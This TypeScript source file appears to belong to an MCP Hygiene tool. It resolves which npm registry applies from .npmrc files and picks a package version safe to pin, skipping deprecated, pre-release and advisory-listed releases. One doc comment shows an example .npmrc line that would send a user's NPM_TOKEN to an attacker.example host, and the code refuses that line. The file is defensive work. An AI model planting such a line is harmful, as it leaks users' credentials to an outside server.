import { homedir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { chooseSafeVersion, type AdvisorySource, type Candidate } from './safeVersion';
import { displayUrl, getJson, RegistryError, type HttpOptions } from './http';
import { readRegularTextFile } from '../host/readRegularFile';
import { ownValue } from '../core/lookupTable';

export const NPM_PUBLIC_REGISTRY = 'https://registry.npmjs.org';

/**
 * The registry npm itself would ask for `name`, most specific first: the launch's own
 * `--registry`, `@scope:registry=` then `registry=` from the project's `.npmrc` (the config
 * file's folder and its parents up to the workspace folder), then from `~/.npmrc`, then
 * the `mcpHygiene.npmRegistry` setting, then the public registry. Only registry lines are
 * read: auth tokens in `.npmrc` are never read or sent.
 *
 * `${VAR}` is expanded in `~/.npmrc` only: in a project's `.npmrc` the repository would
 * choose both the host and which of the user's environment variables go into the request
 * (`registry=https://attacker.example/${NPM_TOKEN}/`), so such a line is refused.
 */
export function npmRegistryFor(
  name: string,
  context: { explicit?: string; setting?: string; configFile?: string; workspaceFolder?: string; home?: string; env?: Record<string, string | undefined> },
): string {
  if (context.explicit) return trimSlash(context.explicit);
  const scope = name.startsWith('@') ? name.slice(0, name.indexOf('/')) : undefined;
  const files: string[] = [];
  if (context.configFile) {
    let dir = dirname(resolve(context.configFile));
    const stop = context.workspaceFolder ? resolve(context.workspaceFolder) : undefined;
    for (let i = 0; i < 32; i++) {
      files.push(join(dir, '.npmrc'));
      if (!stop || dir === stop || dirname(dir) === dir || !dir.startsWith(stop)) break;
      dir = dirname(dir);
    }
  }
  const userFile = join(context.home ?? homedir(), '.npmrc');
  files.push(userFile);
  for (const file of files) {
    const lines = readNpmrc(file, file === userFile ? (context.env ?? process.env) : undefined);
    if (!lines) continue;
    if (scope && lines.get(`${scope}:registry`)) return trimSlash(lines.get(`${scope}:registry`)!);
    if (lines.get('registry')) return trimSlash(lines.get('registry')!);
  }
  return trimSlash(context.setting || NPM_PUBLIC_REGISTRY);
}

/** Larger than any real `.npmrc`. */
const MAX_NPMRC_BYTES = 256 * 1024;

/** The registry lines of an `.npmrc`; `env` expands `${VAR}`, without it such a line is an error. */
function readNpmrc(file: string, env: Record<string, string | undefined> | undefined): Map<string, string> | undefined {
  let text: string;
  try {
    text = readRegularTextFile(file, MAX_NPMRC_BYTES);
  } catch {
    return undefined;
  }
  const map = new Map<string, string>();
  for (const raw of text.split(/\r?\n/)) {
    const line = raw.trim();
    if (!line || line.startsWith('#') || line.startsWith(';')) continue;
    const eq = line.indexOf('=');
    if (eq < 0) continue;
    const key = line.slice(0, eq).trim();
    if (key !== 'registry' && !/^@[^:]+:registry$/.test(key)) continue;
    let value = line
      .slice(eq + 1)
      .trim()
      .replace(/^(["'])(.*)\1$/, '$2');
    if (value.includes('${')) {
      if (!env)
        throw new RegistryError(
          `${file} sets ${key} with an environment variable. MCP Hygiene expands variables only in your own ~/.npmrc, as a repository could send your tokens to its server: write the URL out, or enter the version by hand.`,
          'unreachable',
        );
      value = value.replace(/\$\{([^}]+)\}/g, (_, name: string) => ownValue(env, name) ?? '');
    }
    if (value) map.set(key, value);
  }
  return map;
}

function trimSlash(url: string): string {
  return url.trim().replace(/\/+$/, '');
}

export interface NpmPackument {
  'dist-tags'?: Record<string, string>;
  versions?: Record<string, { deprecated?: string | boolean } | undefined>;
}

/**
 * The version to pin `name` to: dist-tags.latest unless it is deprecated, a pre-release or
 * inside an advisory; else the newest version (not newer than latest) that is none of those.
 */
export async function latestSafeNpmVersion(
  name: string,
  registry: string,
  advisories: AdvisorySource,
  http: HttpOptions,
): Promise<{ version: string; registry: string; note?: string }> {
  const url = `${registry}/${name.replace('/', '%2f')}`;
  const where = displayUrl(registry);
  // The abbreviated ("corgi") document is all we need and much smaller; registries that do
  // not know the media type answer with the full packument.
  const body = await getJson(
    url,
    { ...http, headers: { accept: 'application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8' } },
    {
      notFound: `Package "${name}" was not found in ${where}.`,
      registry: where,
    },
  );
  const packument = body as NpmPackument;
  if (!packument || typeof packument !== 'object' || typeof packument.versions !== 'object' || packument.versions === null) {
    throw new RegistryError(`${where} answered for "${name}" without a versions list (not an npm registry?).`, 'malformed');
  }
  const candidates: Candidate[] = Object.entries(packument.versions).map(([version, meta]) => ({
    version,
    ...(meta && meta.deprecated ? { withdrawn: String(meta.deprecated) } : {}),
  }));
  const latest = packument['dist-tags']?.latest;
  const choice = chooseSafeVersion('npm', candidates, advisories('npm', name), typeof latest === 'string' ? latest : undefined);
  if (!choice)
    throw new RegistryError(
      `No version of "${name}" in ${where} is safe to pin: every release is a pre-release, deprecated or inside a known advisory.`,
      'no-safe-version',
    );
  const note = choice.skipped.length ? `skipped ${choice.skipped.map((s) => `${s.version} (${s.why})`).join(', ')}` : undefined;
  return { version: choice.version, registry: where, ...(note ? { note } : {}) };
}
